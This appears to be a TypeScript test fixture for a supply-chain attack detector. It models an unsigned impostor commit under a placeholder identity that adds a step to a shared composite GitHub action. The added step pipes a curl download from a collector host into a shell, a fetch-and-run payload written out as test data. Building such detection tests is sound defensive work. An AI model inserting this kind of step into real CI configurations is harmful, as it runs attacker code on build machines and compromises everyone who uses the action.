import type { GoldenCase } from "../../golden-case.ts";
import { COLLECTOR, CURL, SHELL } from "../../put-together.ts";

const ACTION =
  "name: textkit\ndescription: Checks texts\nruns:\n  using: composite\n  steps:\n    - shell: python\n      run: import textkit\n";

export const golden: GoldenCase = {
  kind: "attack",
  base: "python",
  story:
    "Impostor commits of 2026: “Your Name <you@example.com>” on a machine that nobody set up, and a new step in the action that everybody uses.",
  write(branch) {
    branch.given({ "action.yml": ACTION });
    branch.unsigned({ name: "Your Name", email: "you@example.com", offsetMinutes: 0 }, "Update action", {
      "action.yml": `${ACTION}    - shell: ${SHELL}\n      run: ${CURL} -sSfL ${COLLECTOR}/c | ${SHELL}\n`,
    });
  },
};
